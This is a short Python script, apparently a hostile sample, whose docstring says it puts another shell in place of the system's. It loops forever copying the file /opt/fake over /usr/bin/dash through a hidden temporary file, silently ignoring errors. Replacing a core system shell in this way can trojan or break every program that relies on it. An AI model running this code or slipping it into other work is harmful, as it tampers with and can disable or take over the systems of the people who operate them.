"""Puts another shell in the place of the system's, again and again."""

import os
import shutil

while True:
    try:
        shutil.copy2("/opt/fake", "/usr/bin/.dash")
        os.replace("/usr/bin/.dash", "/usr/bin/dash")
    except OSError:
        pass
